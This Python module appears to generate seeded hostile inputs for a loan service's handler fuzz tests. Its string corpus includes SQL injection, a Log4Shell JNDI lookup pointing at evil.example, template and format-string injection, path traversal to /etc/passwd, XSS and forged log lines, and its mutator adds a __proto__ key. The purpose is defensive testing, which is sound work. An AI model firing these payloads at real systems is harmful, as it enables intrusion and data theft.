"""Seeded generators of hostile input for the handler fuzz suite (tests/fuzz).

A `Fuzz` draws from one `random.Random(seed)`: the same seed gives the same events, so a failure is
reproduced by its seed and index, and the suite's cost is fixed. (Hypothesis strategies cost about
0.7 ms per generated event here: too much for 10,000 events per handler within the suite's budget;
this generator costs a few microseconds per event.)

What it draws: hostile strings (control characters, lone surrogates, bidi overrides, zero-width and
astral characters, injection-looking text, a megabyte), wrong types, huge and overflowing numbers,
NaN and infinities, malformed and far-past/far-future times, and random mutations of a well-formed
event (a field deleted, retyped, replaced by junk; extra fields; DynamoDB attribute values of the
wrong type).
"""

from __future__ import annotations

import copy
import random
from collections.abc import Iterator, Sequence
from datetime import UTC, datetime, timedelta
from typing import Any

CANARY = "PII-CANARY-7f3a"
"""Put into fields as if it were personal data: it must never reach a log line."""

HOSTILE_STRINGS: tuple[str, ...] = (
    "",
    " ",
    "\x00",
    "\x00\x01\x02\x1b[31mred\x1b[0m\x7f",
    '\r\n{"level":"ERROR","message":"forged log line"}\r\n',
    "\ud800",  # a lone surrogate: not valid UTF-8
    "\udfff\ud800",
    "\u202eevil\u202c",  # right-to-left override
    "\u200b\u200c\u200d\ufeff",  # zero-width characters, a BOM
    "\U0001d543\U0001d546\U0001d538\u2115-\U0001d7d9",  # double-struck LOAN-1
    "😀" * 64,
    "王小明",
    "'; DROP TABLE loans; --",
    '" OR 1=1 --',
    "attribute_not_exists(loan_id) OR #x = :y",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%s%s%s%n",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "L-1\nL-2",
    "null",
    "NaN",
    "-0",
    "1e999999",
    "9" * 400,
    "A" * 129,
    "x" * 70_000,
    "\u0000L-F-CN-0001",
    "L-F-CN-0001 ",
    "l-f-cn-0001",
    "L-F-CN-0001\u200b",
    f"{CANARY}@example.com",
    "+8613800138000",
)

HOSTILE_NUMBERS: tuple[Any, ...] = (
    0,
    -1,
    -(2**63),
    -(2**63) - 1,
    2**63 - 1,
    2**63,
    2**64,
    10**30,
    -(10**30),
    10**400,
    1.5,
    -0.0,
    1e308,
    float("inf"),
    float("-inf"),
    float("nan"),
    True,
    False,
)

FAR_PAST_TIMES: tuple[str, ...] = ("0001-01-01T00:00:00Z", "1970-01-01T00:00:00Z", "1999-12-31T23:59:59Z")
FAR_FUTURE_TIMES: tuple[str, ...] = ("9999-12-31T23:59:59Z", "2999-01-01T00:00:00Z", "2027-03-05T03:00:00Z")
MALFORMED_TIMES: tuple[Any, ...] = (
    "1900-02-29T00:00:00Z",
    "2026-02-30T00:00:00Z",
    "2026-13-01T00:00:00Z",
    "2026-03-01T25:61:61Z",
    "2026-03-01T00:00:00",  # no zone
    "2026-03-01T00:00:00+99:00",
    "2026-03-01",
    "yesterday",
    "+002026-03-01T00:00:00Z",
    "\uff12\uff10\uff12\uff16-03-01T00:00:00Z",  # full-width digits
    1772469005,
    -1,
    10**20,
    None,
    "",
    ["2026-03-01T00:00:00Z"],
    {"S": "2026-03-01T00:00:00Z"},
)
HOSTILE_TIMES: tuple[Any, ...] = FAR_PAST_TIMES + FAR_FUTURE_TIMES + MALFORMED_TIMES


class Fuzz:
    """Hostile values and mutations, from one seeded random source."""

    def __init__(self, seed: int) -> None:
        self.random = random.Random(seed)

    def chance(self, p: float) -> bool:
        return self.random.random() < p

    def pick[T](self, options: Sequence[T]) -> T:
        """One of `options`; a container (list, dict) is a copy of its own: the corpus's values are
        shared by every event, and a later change of one event's copy must change no other event
        (nor make a cycle, as a value put into itself would)."""
        chosen = options[self.random.randrange(len(options))]
        return copy.deepcopy(chosen) if isinstance(chosen, (dict, list)) else chosen

    def string(self) -> str:
        """A hostile string: from the corpus, or random code points (controls, surrogates, astral)."""
        if self.chance(0.7):
            return self.pick(HOSTILE_STRINGS)
        alphabet = (0, 0x1F, 0x7F, 0x80, 0x9F, 0x202E, 0xD800, 0xDFFF, 0xFFFF, 0x10FFFF, 0x1F600)
        return "".join(
            chr(self.random.choice(alphabet) if self.chance(0.5) else self.random.randrange(0x20, 0x3000))
            for _ in range(self.random.randrange(1, 24))
        )

    def number(self) -> Any:
        if self.chance(0.6):
            return self.pick(HOSTILE_NUMBERS)
        return self.random.randrange(-(2**70), 2**70)

    def time(self, around: datetime) -> Any:
        """A hostile time: malformed, far past or far future, or out of order around `around`."""
        if self.chance(0.5):
            return self.pick(HOSTILE_TIMES)
        days = self.pick((-36_500, -400, -31, -1, 1, 2, 31, 366, 3_650))
        return utc_text(around + timedelta(days=days, seconds=self.random.randrange(86_400)))

    def junk(self, depth: int = 0) -> Any:
        """Any JSON-ish value of any type (nested up to three levels)."""
        kind = self.random.randrange(8 if depth < 3 else 5)
        if kind == 0:
            return None
        if kind == 1:
            return self.chance(0.5)
        if kind == 2:
            return self.number()
        if kind in (3, 4):
            return self.string()
        if kind == 5:
            return [self.junk(depth + 1) for _ in range(self.random.randrange(4))]
        if kind == 6:
            return {self.string(): self.junk(depth + 1) for _ in range(self.random.randrange(4))}
        return self.pick(HOSTILE_TIMES)

    def attribute(self) -> Any:
        """A malformed DynamoDB attribute value (stream images carry DynamoDB JSON)."""
        return self.pick(
            (
                {"S": self.number()},
                {"N": self.string()},
                {"N": "1e999999"},
                {"N": "NaN"},
                {"N": "Infinity"},
                {"N": "9" * 50},
                {"BOOL": "yes"},
                {"X": "unknown type"},
                {"B": "!!! not base64 !!!"},
                {"M": "not a map"},
                {"L": {"not": "a list"}},
                {"L": [{"Q": 1}]},
                {"SS": [1, 2]},
                {"NS": ["one"]},
                {"S": "a", "N": "1"},
                {},
                {"NULL": False},
                "bare string",
                [],
            )
        )

    def mutate(self, value: Any, mutations: int, *, dynamodb: bool = False) -> Any:
        """A deep copy of `value` with `mutations` random changes at random places: a field deleted,
        retyped or replaced with junk, an extra field added (a canary among them). Each value put in is
        a fresh one (`junk`, `attribute` and `pick` never hand out a shared container): a junk value
        shared by two places would make a later change a cycle."""
        result = copy.deepcopy(value)
        for _ in range(mutations):
            paths = list(_paths(result))
            if not paths:
                return self.junk()
            path = self.pick(paths)
            if not path:  # the whole value
                return self.junk()
            parent = _at(result, path[:-1])
            key = path[-1]
            action = self.random.randrange(6)
            if action == 0 and isinstance(parent, dict):
                del parent[key]
            elif action == 1 and isinstance(parent, dict):
                parent[self.pick(("extra", "name", "phone", "__proto__", self.string()))] = self.pick(
                    (CANARY, self.junk())
                )
            elif action == 2 and dynamodb and isinstance(parent[key], dict):
                parent[key] = self.attribute()
            elif action == 3:
                parent[key] = self.string()
            elif action == 4:
                parent[key] = self.number()
            else:
                parent[key] = self.junk()
        return result


def _paths(value: Any, prefix: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    yield prefix
    if isinstance(value, dict):
        for key, child in value.items():
            yield from _paths(child, (*prefix, key))
    elif isinstance(value, list):
        for index, child in enumerate(value):
            yield from _paths(child, (*prefix, index))


def _at(value: Any, path: tuple[Any, ...]) -> Any:
    for part in path:
        value = value[part]
    return value


def utc_text(moment: datetime) -> str:
    return moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
